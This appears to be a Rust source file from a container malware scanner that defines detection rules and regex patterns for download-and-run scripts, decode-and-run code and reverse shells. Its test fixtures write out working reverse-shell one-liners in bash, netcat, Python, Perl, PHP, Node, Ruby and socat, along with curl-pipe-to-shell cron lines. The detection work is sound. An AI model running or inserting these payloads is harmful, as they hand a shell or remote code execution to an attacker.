//! Scripts that run what they download or decode, and shells that are handed to somebody on
//! the network.
//!
//! A line that fetches and runs is what thousands of installers do: on its own it is told at a
//! low severity, and weighs more where something starts it by itself (the judging knows). The
//! shells have no honest use; their forms are those of the public collections of one-liners
//! (GTFOBins, MITRE ATT&CK T1059).

use std::sync::LazyLock;

use regex::bytes::Regex;
use seaworthy_core::{MalwareBasis, Meta, Severity};

use super::Seen;
use super::rule::{HeuristicRule, Scope, script, text};
use super::shell::{self, Command, Foreign};
use super::text::{is_interpreter, is_shell, lossy, offset, pattern};

/// Downloads and runs.
pub(super) const FETCH_AND_RUN: HeuristicRule = HeuristicRule {
    meta: Meta {
        id: "runs-download",
        revision: 1,
        summary: "script that runs what it downloads",
        references: &["https://attack.mitre.org/techniques/T1105/"],
    },
    severity: Severity::Low,
    basis: MalwareBasis::Behaviour,
    attack: "T1105",
    scope: Scope::File,
    advice: "download at build time, pin the version, and check a digest before anything is run",
    positive: &[
        script(
            "opt/i.sh",
            "#!/bin/sh\ncurl -fsSL http://a.example.com/x | sh\n",
        ),
        text(
            "etc/cron.d/x",
            "* * * * * root wget -qO- http://a.example.com/x | bash\n",
        ),
    ],
    negative: &[
        script(
            "opt/i.sh",
            "#!/bin/sh\necho 'curl http://a.example.com/x | sh'\n",
        ),
        script(
            "opt/i.sh",
            "#!/bin/sh\ncurl -s http://a.example.com/x | tar xz\n",
        ),
        text(
            "usr/share/doc/x/INSTALL",
            "curl http://a.example.com/x | sh\n",
        ),
    ],
};

/// Decodes and runs.
pub(super) const DECODE_AND_RUN: HeuristicRule = HeuristicRule {
    meta: Meta {
        id: "runs-decoded-code",
        revision: 1,
        summary: "script that runs what it decodes",
        references: &["https://attack.mitre.org/techniques/T1140/"],
    },
    severity: Severity::Medium,
    basis: MalwareBasis::Behaviour,
    attack: "T1140",
    scope: Scope::File,
    advice: "decode the text by hand and read what it does before the image is run anywhere",
    positive: &[
        script(
            "opt/i.sh",
            "#!/bin/bash\necho Y3VybCB4 | base64 -d | bash\n",
        ),
        script(
            "app/a.py",
            "#!/usr/bin/python3\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        ),
    ],
    negative: &[
        script(
            "opt/i.sh",
            "#!/bin/bash\necho \"$KEY\" | base64 -d > key.pem\n",
        ),
        script(
            "app/a.py",
            "#!/usr/bin/python3\nimport base64\nx = base64.b64decode('cHJpbnQoMSk=')\n",
        ),
    ],
};

/// A shell for somebody on the network.
pub(super) const REVERSE_SHELL: HeuristicRule = HeuristicRule {
    meta: Meta {
        id: "reverse-shell",
        revision: 1,
        summary: "shell that is handed to the network",
        references: &[
            "https://attack.mitre.org/techniques/T1059/004/",
            "https://gtfobins.github.io/#+reverse%20shell",
        ],
    },
    severity: Severity::High,
    basis: MalwareBasis::Behaviour,
    attack: "T1059.004",
    scope: Scope::File,
    advice: "treat what the container could reach as known to others: rotate its credentials",
    positive: &[
        script(
            "x.sh",
            "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
        ),
        script(
            "x.sh",
            "#!/bin/sh\nrm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f\n",
        ),
        text(
            "etc/cron.d/x",
            "* * * * * root nc -e /bin/sh 203.0.113.5 4444\n",
        ),
        script(
            "x.py",
            "#!/usr/bin/python3\nimport socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.5',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n",
        ),
        script(
            "x.pl",
            "#!/usr/bin/perl\nuse Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4444,inet_aton('203.0.113.5')));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");\n",
        ),
        script(
            "x.sh",
            "#!/bin/sh\nsocat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.5:4444\n",
        ),
        script(
            "x.sh",
            "#!/bin/bash\nexec 5<>/dev/tcp/203.0.113.5/4444\ncat <&5 | while read line; do $line 2>&5 >&5; done\n",
        ),
        text(
            "srv/x.php",
            "<?php $s=fsockopen('203.0.113.5',4444);exec('/bin/sh -i <&3 >&3 2>&3');",
        ),
        text(
            "srv/x.js",
            "var n=require('net'),c=require('child_process'),s=c.spawn('/bin/sh',[]);var k=new net.Socket();k.connect(4444,'203.0.113.5',function(){k.pipe(s.stdin);s.stdout.pipe(k);});",
        ),
        script(
            "x.rb",
            "#!/usr/bin/ruby\nrequire 'socket'\nf=TCPSocket.open('203.0.113.5',4444).to_i\nexec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)\n",
        ),
    ],
    negative: &[
        script(
            "wait.sh",
            "#!/bin/bash\nuntil (echo > /dev/tcp/$HOST/5432) 2>/dev/null; do sleep 1; done\n",
        ),
        script("x.sh", "#!/bin/sh\nnc -z db 5432 && exec /bin/sh -c app\n"),
        script(
            "x.sh",
            "#!/bin/sh\nmkfifo /tmp/log; cat /tmp/log & exec app > /tmp/log\n",
        ),
        script(
            "x.py",
            "#!/usr/bin/python3\nimport socket\ns=socket.socket()\ns.connect(('127.0.0.1',80))\n",
        ),
        script(
            "x.sh",
            "#!/bin/sh\nsocat TCP-LISTEN:80,fork TCP:backend:8080\n",
        ),
    ],
};

/// Looks at a shell text that holds one of the words of this family.
pub(super) fn examine_shell(commands: &[Command], seen: &mut Seen<'_>) {
    if let Some((kind, how)) = shell::runs_foreign_code(commands) {
        let rule = match kind {
            Foreign::Download => &FETCH_AND_RUN,
            Foreign::Decode => &DECODE_AND_RUN,
        };
        seen.add(rule, None, how);
    }
    if let Some(how) = network_shell(commands) {
        seen.add(&REVERSE_SHELL, None, how.to_owned());
    }
}

fn names_shell(word: &str) -> bool {
    word.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '/' | '-' | '_' | '.')))
        .any(|part| is_shell(shell::base_name(part)) || part == "cmd.exe")
}

fn is_netcat(name: &str) -> bool {
    matches!(
        name,
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd"
    )
}

/// A shell on the network in shell words; how, in a few words.
pub(super) fn network_shell(commands: &[Command]) -> Option<&'static str> {
    let socket = |word: &String| word.starts_with("/dev/tcp/") || word.starts_with("/dev/udp/");
    let mut fifo = false;
    for (index, command) in commands.iter().enumerate() {
        let Some((name, arguments)) = command.program() else {
            continue;
        };
        let has = |words: &[&str]| arguments.iter().any(|word| words.contains(&word.as_str()));
        // `bash -i >& /dev/tcp/…`; also `0<&196;exec 196<>/dev/tcp/…; sh <&196 >&196`.
        if is_shell(name) && arguments.iter().any(socket) && !has(&["-c"]) {
            return Some("a shell on `/dev/tcp`");
        }
        if command.words.iter().any(|word| word == "exec")
            && command.words.iter().any(socket)
            && command.words.iter().any(|word| word == "<>")
            && commands.iter().skip(index + 1).take(16).any(|next| {
                let reads = next.words.iter().any(|word| word.starts_with("<&"));
                let Some((name, _)) = next.program() else {
                    return false;
                };
                reads
                    && (is_shell(name) || name == "cat" || name == "read")
                    && runs_what_it_reads(commands, index)
            })
        {
            return Some("what comes in on `/dev/tcp` is run");
        }
        if is_netcat(name)
            && arguments.iter().enumerate().any(|(at, word)| {
                let runs = matches!(word.as_str(), "--exec" | "--sh-exec")
                    || (word.starts_with('-')
                        && !word.starts_with("--")
                        && word.ends_with(['e', 'c']));
                runs && arguments
                    .get(at + 1)
                    .is_some_and(|program| names_shell(program))
            })
        {
            return Some("netcat runs a shell");
        }
        fifo |= name == "mkfifo" || (name == "mknod" && has(&["p"]));
        if fifo
            && is_shell(name)
            && commands.iter().any(|next| {
                next.pipe_from == Some(index)
                    && next.program().is_some_and(|(name, arguments)| {
                        is_netcat(name)
                            || matches!(name, "telnet" | "socat")
                            || (name == "openssl"
                                && arguments.iter().any(|word| word == "s_client"))
                    })
            })
        {
            return Some("a shell between a named pipe and the network");
        }
        if is_shell(name)
            && command
                .pipe_from
                .and_then(|from| commands.get(from)?.program())
                .is_some_and(|(name, _)| is_netcat(name) || name == "telnet")
            && arguments
                .iter()
                .all(|word| word.starts_with('-') || word.contains(['>', '<', '&', '1', '2']))
        {
            return Some("a shell that reads from the network");
        }
        if name == "socat" {
            let runs = arguments.iter().any(|word| {
                let lower = word.to_ascii_lowercase();
                (lower.starts_with("exec:") || lower.starts_with("system:")) && names_shell(word)
            });
            let network = arguments.iter().any(|word| {
                let lower = word.to_ascii_lowercase();
                ["tcp", "udp", "openssl", "ssl"]
                    .iter()
                    .any(|scheme| lower.starts_with(scheme))
            });
            if runs && network {
                return Some("socat joins a shell and the network");
            }
        }
        if (is_interpreter(name) || matches!(name, "awk" | "gawk" | "lua"))
            && let Some(code) = arguments.iter().find(|word| word.len() > 24)
        {
            if is_shell(name) {
                if shell::inline_code(arguments) == Some(code.as_str())
                    && code.len() < 1 << 14
                    && let Some(found) = network_shell(&shell::parse(code))
                {
                    return Some(found);
                }
            } else if let Some(found) = code_shell(code) {
                return Some(found);
            }
        }
    }
    None
}

fn runs_what_it_reads(commands: &[Command], from: usize) -> bool {
    commands.iter().skip(from + 1).take(16).any(|command| {
        command
            .program()
            .is_some_and(|(name, _)| name.starts_with('$') || is_shell(name))
    })
}

struct Code {
    how: &'static str,
    /// All of them.
    patterns: Vec<Regex>,
}

static CODE: LazyLock<Vec<Code>> = LazyLock::new(|| {
    const SHELL: &str = r#"(?:/bin/(?:ba|da|z|k|a)?sh|["'](?:ba|z)?sh["' ]|cmd\.exe)"#;
    [
        (
            "Python joins a shell and a socket",
            // In this order and close together: test suites of sockets have all of it, apart.
            vec![
                r#"(?s)\.(?:connect(?:_ex)?|accept)\(.{0,400}dup2\(.{0,400}(?:pty\.spawn|["'](?:/usr)?/bin/(?:ba|da|z)?sh|["'](?:ba|z)?sh["'])"#,
            ],
        ),
        (
            "Perl joins a shell and a socket",
            vec![
                r#"open\s*\(?\s*(?:\*?STDIN)\s*,\s*["'][<>+]*&"#,
                r"\bconnect\s*\(|IO::Socket",
                SHELL,
            ],
        ),
        (
            "Ruby joins a shell and a socket",
            vec![
                r"TCPSocket\.(?:new|open)",
                r"\bexec\b|popen|Process\.spawn|\bsystem\b",
                SHELL,
            ],
        ),
        (
            "PHP joins a shell and a socket",
            vec![
                r"fsockopen\s*\(|stream_socket_client\s*\(",
                r"\b(?:exec|shell_exec|proc_open|popen|system|passthru)\s*\(",
                r"/bin/(?:ba|da)?sh\s+-i|sh -i",
            ],
        ),
        (
            "Node joins a shell and a socket",
            vec![
                r"net\.Socket\(|net\.connect\(|\.createConnection\(|net\.createServer\(",
                r"child_process",
                SHELL,
                r"\.pipe\([^)]{0,60}\.stdin\)",
            ],
        ),
        (
            "Lua joins a shell and a socket",
            vec![
                r"socket\.tcp\(|require\(?\s*.socket",
                r":connect\(",
                r"io\.popen\(|os\.execute\(",
                r"receive\(",
            ],
        ),
        (
            "awk joins a shell and a socket",
            vec![r"/inet/(?:tcp|udp)/0/", r"\|&\s*getline"],
        ),
    ]
    .into_iter()
    .map(|(how, patterns)| Code {
        how,
        patterns: patterns.into_iter().map(pattern).collect(),
    })
    .collect()
});

/// A shell on the network in the code of another language; how, in a few words.
pub(super) fn code_shell(code: &str) -> Option<&'static str> {
    CODE.iter()
        .find(|known| {
            known
                .patterns
                .iter()
                .all(|pattern| pattern.is_match(code.as_bytes()))
        })
        .map(|known| known.how)
}

static EXEC_DECODED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(concat!(
        // Python
        r#"\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?(?:zlib\.decompress\s*\(\s*|marshal\.loads\s*\(\s*|codecs\.decode\s*\(\s*|__import__\s*\(\s*["'](?:base64|zlib|marshal|codecs|binascii)["']\s*\)\.\w+\s*\(\s*|lzma\.decompress\s*\(\s*)*(?:base64\.b(?:64|32|85)decode|b64decode|bytes\.fromhex|binascii\.unhexlify|__import__\s*\(\s*["']base64|zlib\.decompress|marshal\.loads)"#,
        // Perl, Ruby
        r#"|\beval\s*\(?\s*(?:decode_base64|Base64\.decode64|unpack\s*\(?\s*["'][uHm])"#,
        // JavaScript
        r#"|\b(?:eval|Function)\s*\(\s*(?:atob\s*\(|Buffer\.from\s*\([^)]{1,4096},\s*["'](?:base64|hex)["'])"#,
    ))
});

/// Looks at code that is no shell.
pub(super) fn examine_code(bytes: &[u8], seen: &mut Seen<'_>) {
    let text = lossy(bytes);
    if let Some(how) = code_shell(&text) {
        seen.add(&REVERSE_SHELL, None, how.to_owned());
    }
    if let Some(found) = EXEC_DECODED.find(text.as_bytes()) {
        seen.add(
            &DECODE_AND_RUN,
            offset(found.start()),
            "code that is decoded and run at once".to_owned(),
        );
    }
}
